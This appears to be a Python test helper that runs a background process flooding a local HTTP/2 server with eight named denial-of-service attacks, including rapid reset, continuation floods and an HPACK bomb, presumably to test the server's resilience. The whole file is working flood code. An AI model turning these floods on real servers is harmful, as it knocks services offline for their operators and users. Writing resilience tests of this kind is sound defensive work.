"""Floods of HTTP/2, as bytes that are sent again and again; who is sent away
comes back at once."""
import itertools
import multiprocessing
import socket
import time

from .h2 import (END_HEADERS, GET, INITIAL_WINDOW_SIZE, PREFACE, block,
                 continuation, data, headers, literal, ping, request,
                 rst_stream, settings, window_update)

PER_ROUND = 100
ROUNDS = 200
# Between the rounds of one who only waits.
STALL_S = 0.02
BOMB = literal("x-bomb", "y" * 3900, 0x40)


def each(one):
    """A round of streams of their own for each number of a round."""
    def burst(n):
        first = 2 * PER_ROUND * n + 1
        return b"".join(one(first + 2 * i) for i in range(PER_ROUND))
    return burst


def unending(part):
    def burst(n):
        head = headers(1, GET, 1) if n == 0 else b""
        return head + continuation(1, part, 0) * PER_ROUND
    return burst


def bombs(n):
    first = headers(1, GET + BOMB) if n == 0 else b""
    return first + each(lambda s: headers(s + 2, GET + b"\xbe" * 16000))(n)


def stalls(n):
    """Answers that are asked for, with no window to send them."""
    if n > 0:
        time.sleep(STALL_S)
        return ping()
    return b"".join(headers(2 * i + 1, block(request("GET", "/100k")))
                    for i in range(PER_ROUND))


# name: (round, our settings)
FLOODS = {
    "rapid-reset": (each(lambda s: headers(s, GET) + rst_stream(s)), ()),
    "made-you-reset": (each(lambda s: headers(s, GET) + window_update(s, 0)),
                       ()),
    "continuation": (unending(literal("x-a", "y" * 1000)), ()),
    "settings": (lambda n: settings() * PER_ROUND, ()),
    "ping": (lambda n: ping() * PER_ROUND, ()),
    "hpack-bomb": (bombs, ()),
    "stalled-windows": (stalls, {INITIAL_WINDOW_SIZE: 0}.items()),
    "empty-data": (lambda n: (headers(1, block(request("POST")), END_HEADERS)
                              if n == 0 else b"") + data(1) * PER_ROUND, ()),
}


def once(port, burst, ours):
    """One connection, until it is ended or has sent its rounds."""
    with socket.create_connection(("127.0.0.1", port), timeout=2) as sock:
        sock.sendall(PREFACE + settings(ours))
        for n in range(ROUNDS):
            sock.sendall(burst(n))
            sock.setblocking(False)
            try:
                while sock.recv(1 << 16):
                    continue
                return
            except BlockingIOError:
                pass
            sock.settimeout(2)


def flood(port, name):
    burst, ours = FLOODS[name]
    for _ in itertools.count():
        try:
            once(port, burst, ours)
        except OSError:
            pass


class Flood:
    """A process that floods, as a context."""

    def __init__(self, port, name):
        self.process = multiprocessing.Process(
            target=flood, args=(port, name), daemon=True)

    def __enter__(self):
        self.process.start()
        return self

    def __exit__(self, *_):
        self.process.kill()
        self.process.join()
